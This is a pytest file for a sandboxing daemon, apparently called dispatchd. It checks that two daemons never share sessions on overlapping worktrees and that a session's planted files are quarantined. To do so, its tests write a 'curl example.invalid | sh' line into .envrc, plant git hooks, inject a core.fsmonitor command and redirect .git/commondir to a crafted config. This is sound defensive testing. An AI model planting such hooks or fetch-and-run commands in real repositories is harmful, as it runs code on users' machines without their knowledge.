"""Two daemons of the user (each its own socket: the systemd service and one
started by hand), on one state directory or on two, never have sessions on
one worktree, one inside the other, or two worktrees of one repository at
once: each keeps its own baseline and its own keep of the repository's
objects, and the second's would undo the first's (dispatchd/daemon/claims.py;
the table they share: dispatchd/daemon/inusedir.py)."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import dispatch
from dispatchd.daemon import inusedir
from tests.conftest import REPO, Daemon, open_when_free, shell, wait_for_pool, wait_until


def _claims(d: Daemon, top: Path | None = None) -> list[str]:
    """The sessions ``d``'s entries in the user's table (``top``) hold (spares hold none)."""
    top = top or Path(inusedir.shared_path(os.getuid()))
    found = []
    for n in os.listdir(top):
        if n.endswith(".uses"):
            with contextlib.suppress(FileNotFoundError):  # another test's daemon's, given back meanwhile
                text = (top / n).read_text()
                if text.strip() and (e := json.loads(text))["pid"] == d.proc.pid:
                    found.append(e["session"])
    return sorted(found)


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True, timeout=60).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = Path(os.path.realpath(tmp_path)) / "w" / "repo"
    r.mkdir(parents=True)
    git(r, "init", "-q")
    git(r, "config", "user.email", "user@example.invalid")
    git(r, "config", "user.name", "user")
    (r / "src").mkdir()
    for name in ("a", "b", "c"):
        (r / name).write_text(f"{name}\n")
    git(r, "add", ".")
    git(r, "commit", "-qm", "init")
    return r


@contextlib.contextmanager
def _pair(tmp_path: Path, *extra: str, one_state: bool) -> Iterator[tuple[Daemon, Daemon]]:
    """Two daemons, each on its own socket: on one state directory, or each
    on its own (another XDG_STATE_HOME each). The first may be killed."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = Daemon(tmp_path / "a", "--cgroup", "off", *extra)
    second = None
    try:
        second = Daemon(tmp_path / "b", "--cgroup", "off", *extra, state=first.state if one_state else None)
        assert (first.state == second.state) is one_state
        yield first, second
    finally:
        for d, killed in ((second, False), (first, first.proc.poll() == -signal.SIGKILL)):
            if d is not None:
                assert d.stop() == (-signal.SIGKILL if killed else 0), d.log()


@pytest.fixture
def two(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
    with _pair(tmp_path, one_state=True) as pair:
        yield pair


@pytest.fixture
def apart(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
    with _pair(tmp_path, one_state=False) as pair:
        yield pair


def _refused(root: Path, sid: str, daemon: Daemon, uses: Path) -> str:
    return (f"{root}: session {sid} of another dispatchd (pid {daemon.proc.pid}) uses "
            f"{uses}, which overlaps it, shares its repository or holds it; each dispatchd keeps its own baseline "
            "of a worktree, so the sessions of one at a time use it: close that session, or open this one through "
            "that dispatchd; no session opened")


@pytest.mark.parametrize("pair", ["two", "apart"], ids=["one_state_directory", "two_state_directories"])
def test_a_second_daemon_s_open_is_refused_while_the_first_s_session_lives(pair: str, request: pytest.FixtureRequest,
                                                                           repo: Path, tmp_path: Path) -> None:
    first, second = request.getfixturevalue(pair)
    linked = repo.parent / "linked"
    git(repo, "worktree", "add", "-q", str(linked), "-b", "side")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    with first.connect() as c1, second.connect() as c2:
        s1 = c1.open_session(str(repo))
        for root in (repo, repo / "src", linked, repo.parent):  # the same, inside, the same repository, around
            with pytest.raises(dispatch.DispatchError) as err:
                c2.open_session(str(root))
            assert str(err.value) == _refused(root, s1.id, first, repo), str(err.value)
        assert c2.list_sessions() == []
        with c2.open_session(str(elsewhere)) as beside:  # the twin: an unrelated worktree
            assert shell(beside, "touch x").is_success
        other = repo.parent / "other"  # and another repository beside it
        other.mkdir()
        git(other, "init", "-q")
        with c2.open_session(str(other)) as beside:
            assert shell(beside, "touch x").is_success
        s1.close()
        with open_when_free(c2, repo) as s2:  # and once the first's session has ended
            assert shell(s2, "touch y").is_success
        assert wait_until(lambda: _claims(first) == [])


def test_the_first_daemon_s_keep_is_not_undone(two: tuple[Daemon, Daemon], repo: Path) -> None:
    """A session deletes the repository's objects; its daemon puts them back
    at its end from its keep. A second daemon's open, even to read, recorded
    the repository anew and emptied that keep: refused now, and every object
    comes back."""
    first, second = two
    objects = sorted(p.relative_to(repo) for p in (repo / ".git" / "objects").glob("??/*"))
    assert len(objects) == 5  # 3 blobs, a tree, a commit
    with first.connect() as c1, second.connect() as c2:
        with c1.open_session(str(repo)) as s1:
            r = shell(s1, "chmod -R u+w .git/objects && rm -rf .git/objects/?? && ls .git/objects")
            assert r.is_success and r.output == "info\npack\n", (r.error, r.output)
            with pytest.raises(dispatch.DispatchError, match="of another dispatchd"):
                c2.open_session(str(repo))
        assert sorted(p.relative_to(repo) for p in (repo / ".git" / "objects").glob("??/*")) == objects
        git(repo, "fsck", "--strict")
        with open_when_free(c2, repo) as s2:  # the twin: once it has ended, the other daemon opens
            assert shell(s2, "git log --format=%s").output == "init\n"


@pytest.mark.parametrize("pair", ["two", "apart"], ids=["one_state_directory", "two_state_directories"])
def test_a_killed_daemon_s_baseline_is_checked_before_another_daemon_opens(pair: str, request: pytest.FixtureRequest,
                                                                            repo: Path) -> None:
    """What its session planted is moved aside by the daemon still running,
    at the next open there, as a daemon's start would (in the killed one's
    state directory, whichever it is); not taken into that open's baseline."""
    first, second = request.getfixturevalue(pair)
    c1 = first.connect()
    s1 = c1.open_session(str(repo))
    assert shell(s1, "echo 'curl example.invalid | sh' > .envrc").is_success
    os.kill(first.proc.pid, signal.SIGKILL)
    first.proc.wait(timeout=10)
    with contextlib.suppress(dispatch.DispatchError, OSError):
        s1.close()
    c1.close()
    assert (repo / ".envrc").exists()  # its daemon died before its end's check
    with second.connect() as c2:
        assert wait_until(lambda: _opens(c2, repo))  # once its sandbox is gone too
        assert not (repo / ".envrc").exists()
        moved = [p for p in c2.status()["protected"]
                 if p["path"].startswith(f"{repo}/.envrc.quarantined-by-dispatchd-")]
        assert moved, c2.status()["protected"]
        assert "event=dead_daemon_sessions_found" in second.log()
    assert wait_until(lambda: _claims(second) == [])


@pytest.fixture
def two_degraded(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
    with _pair(tmp_path, "--no-user-namespaces", one_state=True) as pair:
        yield pair


def test_the_git_metadata_is_looked_at_again_after_a_dead_daemon_s_remains(two_degraded: tuple[Daemon, Daemon],
                                                                           repo: Path) -> None:
    """Degraded mode (git metadata writable while a session runs): a hook a
    dead daemon's session planted is moved aside by the open that finds it;
    the baseline of that open's session is taken after, so the same hook
    planted again is moved aside at its end too, not taken for the user's."""
    first, second = two_degraded
    plant = "printf '#!/bin/sh\nexit 0\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    c1 = first.connect()
    s1 = c1.open_session(str(repo))
    assert shell(s1, plant).is_success
    os.kill(first.proc.pid, signal.SIGKILL)
    first.proc.wait(timeout=10)
    with contextlib.suppress(dispatch.DispatchError, OSError):
        s1.close()
    c1.close()
    hook = repo / ".git" / "hooks" / "pre-commit"
    assert hook.exists()
    with second.connect() as c2:
        s2 = open_when_free(c2, repo)
        assert not hook.exists()  # moved aside before this session's baseline
        assert shell(s2, plant).is_success
        s2.close()
        assert not hook.exists(), "the hook planted again was taken into the baseline"
        assert [p for p in c2.status()["protected"] if "/.git/hooks/pre-commit.quarantined-by-dispatchd-" in p["path"]]


def _opens(client: dispatch.Client, root: Path) -> bool:
    try:
        client.open_session(str(root)).close()
    except dispatch.DispatchError:
        return False
    return True


def test_an_open_whose_use_cannot_be_recorded_is_refused(tmp_path: Path, repo: Path) -> None:
    """A daemon whose table is its own (another home in its passwd entry, so
    that breaking it leaves the other tests' daemons alone)."""
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "d").mkdir()
    first = Daemon(tmp_path / "d", "--cgroup", "off", prefix=(sys.executable, str(REPO / "tests" / "passwd_home.py"),
                                                               str(home)))
    mutex = home / ".local" / "state" / "dispatchd" / "inuse" / ".mutex"
    try:
        with first.connect() as c1:
            c1.open_session(str(repo)).close()  # the table exists
            assert wait_until(lambda: _claims(first, mutex.parent) == [])  # given back after the close's reply
            # What every claim locks cannot be opened (a mode changed is set back: test_state_modes.py).
            mutex.unlink()
            mutex.mkdir()
            try:
                with pytest.raises(dispatch.DispatchError) as err:
                    c1.open_session(str(repo))
            finally:
                mutex.rmdir()
            assert str(err.value) == (f"{repo}: its use could not be recorded for your other dispatchd daemons "
                                      "(Is a directory); no session opened")
            assert c1.list_sessions() == []
            c1.open_session(str(repo)).close()  # the twin: recorded, it opens
    finally:
        assert first.stop() == 0, first.log()


def test_sessions_leave_no_descriptor_and_no_entry(two: tuple[Daemon, Daemon], repo: Path) -> None:
    first, _ = two
    with first.connect() as c1:
        c1.open_session(str(repo)).close()
        wait_for_pool(c1, "default/off", 2)  # the pool's sandboxes hold descriptors of the daemon's too
        fds = _fewest_fds(first)  # a close's work after its reply holds some for a while
        for _ in range(5):
            with c1.open_session(str(repo)) as s, c1.open_session(str(repo / "src")) as inner:
                assert shell(s, "true").is_success
                assert set(_claims(first)) >= {s.id, inner.id}
        wait_for_pool(c1, "default/off", 2)
        assert wait_until(lambda: _fewest_fds(first) <= fds), (fds, _fewest_fds(first))
        assert wait_until(lambda: _claims(first) == [])


def _fewest_fds(d: Daemon) -> int:
    """The daemon's descriptors, the fewest of a few looks over 0.3 s."""
    seen = []
    for _ in range(15):
        seen.append(len(os.listdir(f"/proc/{d.proc.pid}/fd")))
        time.sleep(0.02)
    return min(seen)


@pytest.fixture(params=["full", "degraded"])
def apart_in_mode(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, Daemon, Daemon]]:
    """``apart``, in both modes (degraded: the git metadata writable while a session runs)."""
    extra = ("--no-user-namespaces",) if request.param == "degraded" else ()
    with _pair(tmp_path, *extra, one_state=False) as (first, second):
        yield request.param, first, second


# What a session can change that the user's git runs: in degraded mode the
# config and a hook; in full mode (those held read-only) `.git/commondir`,
# aimed at a common directory it builds in the worktree, whose config runs.
_PLANTS = {
    "degraded": """set -e
git config core.fsmonitor 'touch {mark}; false'
printf '#!/bin/sh\\ntouch {mark}\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push""",
    "full": """set -e
mkdir -p build/cc/objects/info build/cc/refs/heads build/cc/refs/tags
echo "$PWD/.git/objects" > build/cc/objects/info/alternates
cp .git/refs/heads/* build/cc/refs/heads/
printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = "touch {mark}; false"\\n' > build/cc/config
echo ../build/cc > .git/commondir""",
}


def test_a_plant_is_never_put_back_by_a_daemon_on_another_state_directory(
        apart_in_mode: tuple[str, Daemon, Daemon], repo: Path, tmp_path: Path) -> None:
    """A session of the first daemon plants what the user's git runs; the
    second daemon, on a state directory of its own, is refused while it
    runs, so it never takes the plant for the user's. The first's end moves
    the plant aside; the second's session opened after it, and its end,
    bring nothing back: the user's `git status` runs nothing of the session's."""
    mode, first, second = apart_in_mode
    mark = tmp_path / "ran"
    with first.connect() as c1, second.connect() as c2:
        s1 = c1.open_session(str(repo))
        r = shell(s1, _PLANTS[mode].format(mark=mark))
        assert r.is_success, (r.error, r.output)
        with pytest.raises(dispatch.DispatchError) as err:
            c2.open_session(str(repo))
        assert str(err.value) == _refused(repo, s1.id, first, repo), str(err.value)
        assert c2.list_sessions() == []
        s1.close()
        with open_when_free(c2, repo) as s2:  # the twin: once the first's session has ended, it opens
            assert shell(s2, "git status --short").is_success
    for what in (".git/commondir", ".git/hooks/pre-push"):
        assert not (repo / what).exists(), what
    fsmonitor = subprocess.run(["git", "config", "--get", "core.fsmonitor"], cwd=repo, capture_output=True, timeout=60)
    assert fsmonitor.returncode == 1, fsmonitor.stdout
    git(repo, "status")
    assert not mark.exists(), "the user's git ran the session's command"


def test_a_dead_daemon_s_unreadable_state_directory_refuses_a_related_open_until_readable(
        tmp_path: Path, repo: Path) -> None:
    """A session made its daemon's state directory unreadable (degraded mode:
    a chmod above it, which no daemon sets back), then its daemon died: its
    records are not taken for gone, and another daemon's open refuses, saying
    which directory, rather than take the session's plant into its baseline."""
    with _pair(tmp_path, "--no-user-namespaces", one_state=False) as (first, second):
        c1 = first.connect()
        s1 = c1.open_session(str(repo))
        top = first.state  # the state directory's parent: the user's, not the daemon's to set back
        r = shell(s1, f"echo 'curl example.invalid | sh' > .envrc && chmod 000 '{top}' && stat -c %a '{top}'")
        assert r.output == "0\n", r  # the twin: the chmod happened
        os.kill(first.proc.pid, signal.SIGKILL)
        first.proc.wait(timeout=10)
        with contextlib.suppress(dispatch.DispatchError, OSError):
            s1.close()
        c1.close()
        state = top / "dispatchd"
        with second.connect() as c2:
            said: list[str] = []

            def refused() -> bool:
                try:
                    c2.open_session(str(repo)).close()
                except dispatch.DispatchError as exc:
                    said.append(str(exc))
                    return "cannot be read" in str(exc)
                return True
            assert wait_until(refused)
            assert said[-1] == (
                f"{repo}: a dispatchd that died had sessions related to this worktree, and its state directory "
                f"{state} cannot be read (Permission denied), so what they left cannot be checked; make it "
                f"readable (chmod 700 {state}) and open again; no session opened"), said
            assert (repo / ".envrc").exists()  # nothing opened, so nothing taken in as the user's
            top.chmod(0o700)
            assert wait_until(lambda: _opens(c2, repo))
            assert not (repo / ".envrc").exists()  # checked in the dead daemon's records, moved aside
